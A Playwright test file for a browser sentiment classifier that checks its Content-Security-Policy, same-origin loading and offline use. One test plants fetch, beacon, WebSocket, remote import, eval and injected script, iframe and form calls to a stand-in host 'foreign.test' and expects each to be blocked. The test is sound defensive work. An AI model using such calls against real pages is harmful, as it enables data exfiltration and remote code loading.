import type { Page, Worker } from '@playwright/test'
import { expect, test } from './fixtures.ts'
import { toCsv } from './support/csv.ts'
import { classify } from './support/model.ts'
import { COMPLAINT, PRAISE } from './support/reviews.ts'
import type { TextPage } from './support/textPage.ts'
import { workersNamed } from './support/workers.ts'

const FOREIGN = 'http://foreign.test/'

test('everything comes from the own folder of a host that sends no headers', async ({
  batch,
  text,
  page,
  site,
}) => {
  const asked: { url: string; headers: Record<string, string> }[] = []
  page
    .context()
    .on('response', (response) => asked.push({ url: response.url(), headers: response.headers() }))
  await text.open()
  await text.box.fill(PRAISE)
  await text.expectAnswer('Positive')
  await page.getByRole('tab', { name: 'Batch' }).click()
  await batch.openSample()
  await batch.opened()
  await batch.classifyAll()
  await batch.save()

  const own = asked.filter(({ url }) => !url.startsWith('blob:') && !url.startsWith('data:'))
  expect(own.filter(({ url }) => !url.startsWith(site.url))).toEqual([])
  // The runtime is asked for by a worker: its requests are seen, too.
  const names = own.map(({ url }) => url.split('/').at(-1) ?? '')
  expect(names.filter((name) => name.endsWith('.wasm')).length).toBeGreaterThan(0)
  expect(names.filter((name) => name.endsWith('.onnx'))).toHaveLength(1)
  for (const { headers } of own) {
    expect(Object.keys(headers).filter((name) => /policy|cross-origin|access-control/.test(name))).toEqual([])
  }
})

test('the policy is the first thing in the head and forbids what is not needed', async ({ text, page }) => {
  await text.open()
  const first = await page.evaluate(() => {
    const element = document.head.firstElementChild
    return { equiv: element?.getAttribute('http-equiv'), policy: element?.getAttribute('content') ?? '' }
  })
  expect(first.equiv).toBe('Content-Security-Policy')
  const directives = new Map(
    first.policy.split(';').map((directive) => {
      const [name = '', ...values] = directive.trim().split(/\s+/)
      return [name, values.join(' ')]
    }),
  )
  expect(directives.get('default-src')).toBe("'none'")
  expect(directives.get('connect-src')).toBe("'self'")
  expect(directives.get('script-src')).toBe("'self' 'wasm-unsafe-eval'")
  expect(directives.get('worker-src')).toBe('blob:')
  for (const name of ['base-uri', 'form-action', 'object-src']) expect(directives.get(name)).toBe("'none'")
  expect(first.policy).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/)
})

test('code planted in the page or in any worker reaches no other host and evaluates nothing', async ({
  batch,
  page,
  noise,
}) => {
  // Chromium reports the blocked attempts, too: as errors and as requests that never left.
  noise.expect(/policy|Refused to|violates|Fetch API cannot load|foreign\.test/i)
  const foreign = await answerForeignHost(page)
  await batch.open()
  await batch.choose({ name: 'seal.csv', body: toCsv([['Review'], [PRAISE], [COMPLAINT]]) })
  await batch.opened()
  await batch.classifyAll()

  const inference = await workersNamed(page, 'undertone-inference')
  const table = await workersNamed(page, 'undertone-table')
  expect(inference.length).toBeGreaterThan(0)
  expect(table).toHaveLength(1)
  for (const place of [page, ...inference, ...table]) {
    expect(await plant(place)).toEqual({
      fetch: 'blocked',
      beacon: 'blocked',
      xhr: 'blocked',
      socket: 'blocked',
      source: 'blocked',
      import: 'blocked',
      eval: 'blocked',
      function: 'blocked',
      timer: 'blocked',
      worker: 'blocked',
    })
  }
  expect(await plantElements(page)).toEqual({
    image: 'blocked',
    script: 'blocked',
    frame: 'blocked',
    form: 'blocked',
  })
  expect(foreign.requests).toEqual([])
  // What the policy stopped did no harm.
  expect((await classify(page, [PRAISE]))[0]?.label).toBe('positive')
})

test('after loading, texts are classified without any network', async ({ text, page, context }) => {
  await loadAll(text)
  await context.setOffline(true)
  await text.box.fill(COMPLAINT)
  await text.expectAnswer('Negative')
  expect((await classify(page, [PRAISE]))[0]?.label).toBe('positive')
})

test('after loading, a file is classified without any network', async ({ batch, text, context }) => {
  await loadAll(text)
  await context.setOffline(true)
  await batch.drop({ name: 'offline.csv', body: toCsv([['Review'], [PRAISE], [COMPLAINT]]) })
  await batch.opened()
  await batch.classifyAll()
  const { rows } = await batch.save()
  expect(rows.map((row) => row['sentiment'])).toEqual(['positive', 'negative'])
})

/** The model, and what Batch needs: it follows right after, before anyone can have read how to check this. */
async function loadAll(text: TextPage): Promise<void> {
  const loaded: string[] = []
  text.page.context().on('requestfinished', (request) => loaded.push(request.url()))
  await text.open()
  await text.ready()
  for (const part of [/BatchView.*js$/, /table-worker.*js$/]) {
    await expect.poll(() => loaded.filter((url) => part.test(url)).length).toBeGreaterThan(0)
  }
}

/** A foreign host that would answer everything, so that only the policy can stop a request. */
async function answerForeignHost(page: Page): Promise<{ requests: string[] }> {
  const requests: string[] = []
  await page.context().route(`${FOREIGN}**`, async (route) => {
    requests.push(route.request().url())
    const headers = { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }
    await route.fulfill({ status: 200, headers, body: 'export default 1' })
  })
  return { requests }
}

/** Tries every way out that a page and a worker have; each is `blocked` or what happened instead. */
async function plant(place: Pick<Worker, 'evaluate'>): Promise<Record<string, string>> {
  return place.evaluate(async (foreign) => {
    const blocked = 'blocked'
    // A debugger's own expression may call eval; a task that it only started may not.
    await new Promise((resolve) => setTimeout(resolve))
    const settled = (promise: Promise<unknown>): Promise<string> =>
      promise.then(
        () => 'went through',
        () => blocked,
      )
    /** What sends no promise tells by an event; an exception at once counts as blocked. */
    const told = (start: (ok: () => void, failed: () => void) => void): Promise<string> =>
      settled(
        new Promise<void>((resolve, reject) => {
          start(resolve, () => reject(new Error(blocked)))
        }),
      )
    const violation = (): Promise<string> =>
      new Promise((resolve) =>
        addEventListener('securitypolicyviolation', () => resolve(blocked), { once: true }),
      )

    const results: Record<string, Promise<string>> = {
      fetch: settled(fetch(`${foreign}fetch`, { mode: 'no-cors' })),
      xhr: told((ok, failed) => {
        const request = new XMLHttpRequest()
        request.onload = ok
        request.onerror = failed
        request.open('GET', `${foreign}xhr`)
        request.send()
      }),
      socket: told((ok, failed) => {
        const socket = new WebSocket(foreign.replace('http', 'ws'))
        socket.onopen = ok
        socket.onerror = failed
      }),
      source: told((ok, failed) => {
        const source = new EventSource(`${foreign}events`)
        source.onopen = ok
        source.onerror = failed
      }),
      import: settled(import(`${foreign}module.js`)),
      eval: settled(Promise.resolve().then((): unknown => (0, eval)('1'))),
      function: settled(Promise.resolve().then((): unknown => Reflect.construct(Function, ['return 1']))),
      worker: told((ok, failed) => {
        const worker = new Worker(`${foreign}worker.js`)
        worker.onmessage = ok
        worker.onerror = failed
      }),
    }
    const outcomes = Object.fromEntries(
      await Promise.all(Object.entries(results).map(async ([name, result]) => [name, await result] as const)),
    )
    // Neither throws nor answers: only the violation tells.
    const beacon = violation()
    if ('sendBeacon' in navigator) navigator.sendBeacon(`${foreign}beacon`, 'text')
    else dispatchEvent(new Event('securitypolicyviolation'))
    outcomes['beacon'] = await beacon
    const timer = violation()
    Reflect.apply(setTimeout, globalThis, ['globalThis.planted = true'])
    outcomes['timer'] = await timer
    return outcomes
  }, FOREIGN)
}

/** Elements that load or send something by themselves. */
async function plantElements(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async (foreign) => {
    const violated = (directive: string, start: () => void): Promise<string> =>
      new Promise((resolve) => {
        const listen = (event: SecurityPolicyViolationEvent): void => {
          if (!event.effectiveDirective.startsWith(directive)) return
          removeEventListener('securitypolicyviolation', listen)
          resolve('blocked')
        }
        addEventListener('securitypolicyviolation', listen)
        start()
      })
    const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      return document.body.appendChild(element)
    }
    return {
      image: await violated('img-src', () => add('img', { src: `${foreign}pixel.png` })),
      script: await violated('script-src', () => add('script', { src: `${foreign}script.js` })),
      frame: await violated('frame-src', () => add('iframe', { src: `${foreign}frame.html` })),
      form: await violated('form-action', () => {
        const form = add('form', { action: `${foreign}form`, method: 'post' })
        if (form instanceof HTMLFormElement) form.submit()
      }),
    }
  }, FOREIGN)
}
